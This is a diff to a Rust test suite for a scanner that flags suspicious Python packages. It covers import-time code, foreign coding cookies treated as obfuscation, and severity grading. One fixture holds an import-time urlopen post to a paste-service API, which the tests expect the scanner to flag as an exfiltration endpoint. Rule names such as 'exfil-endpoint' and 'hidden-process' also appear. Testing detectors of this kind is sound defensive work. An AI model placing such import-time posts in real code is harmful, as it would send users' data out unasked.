@@ -1589,7 +1589,13 @@ fn severity_follows_capability_and_reach() {
     // temporary directory and a decoding that nothing calls on import: a bare capability
     let rc = "import base64\nimport tempfile\nimport urllib.request\n\n\ndef _cachedir():\n    return tempfile.mkdtemp(prefix=\"lib-\")\n\n\ndef _open(fname):\n    _cachedir()\n    if \"://\" in fname:\n        return urllib.request.urlopen(fname).read()\n    return open(fname).read()\n\n\ndef _unpack(s):\n    return base64.b64decode(s)\n\n\nrc = _open(\"librc\")\n";
     let (code, all) = scan_files(&[("plotlib/__init__.py", rc)]);
-    assert_fires(&all, "import-time-code", "plotlib/__init__.py", 21, "warning");
+    assert_fires(
+        &all,
+        "import-time-code",
+        "plotlib/__init__.py",
+        21,
+        "warning",
+    );
     assert_eq!(code, Some(0));
 
     // an import-time post to a raw IP: an error
@@ -1605,7 +1611,8 @@ fn severity_follows_capability_and_reach() {
     let (code, all) = scan_files(&[("shell/magics.py", paste)]);
     assert_fires(&all, "exfil-endpoint", "shell/magics.py", 6, "warning");
     assert_eq!(code, Some(0));
-    let at_import = "from urllib.request import urlopen\n\nurlopen(\"https://dpaste.com/api/v2/\", b\"x\")\n";
+    let at_import =
+        "from urllib.request import urlopen\n\nurlopen(\"https://dpaste.com/api/v2/\", b\"x\")\n";
     let (code, all) = scan_files(&[("shell/magics.py", at_import)]);
     assert_fires(&all, "exfil-endpoint", "shell/magics.py", 3, "error");
     assert_eq!(code, Some(1));
@@ -1620,4 +1627,31 @@ fn severity_follows_capability_and_reach() {
     let (code, all) = scan_files(&[("svc/run.py", together)]);
     assert_fires(&all, "hidden-process", "svc/run.py", 6, "error");
     assert_eq!(code, Some(1));
+}
+
+/// A coding cookie the scan does not decode: a warning only for a module of the user's own
+/// site-packages that its `RECORD` lists and that nothing running unasked imports; an error on
+/// a package's import path, and always in a repository under inspection.
+#[test]
+fn a_foreign_cookie_is_an_error_where_the_module_runs_unasked() {
+    let site = tempfile::tempdir().unwrap();
+    let site = site.path();
+    let big5 = "# -*- coding: big5 -*-\nx = 1\n";
+    write(site, "lib/__init__.py", "from . import enc\n");
+    write(site, "lib/enc.py", big5);
+    write(site, "lib/tests/__init__.py", "");
+    write(site, "lib/tests/test_enc.py", big5);
+    write(
+        site,
+        "lib-1.0.dist-info/RECORD",
+        "lib/__init__.py,,\nlib/enc.py,,\nlib/tests/__init__.py,,\nlib/tests/test_enc.py,,\n",
+    );
+    let out = squatguard(site, &["scan", "--trusted", "--format", "json"]);
+    let all = findings(&out);
+    assert_fires(&all, "obfuscation", "lib/tests/test_enc.py", 1, "warning");
+    assert_fires(&all, "obfuscation", "lib/enc.py", 1, "error");
+    assert_eq!(out.status.code(), Some(1));
+    // under inspection, the repository's RECORD relaxes nothing
+    let all = scan_failing(site);
+    assert_fires(&all, "obfuscation", "lib/tests/test_enc.py", 1, "error");
 }
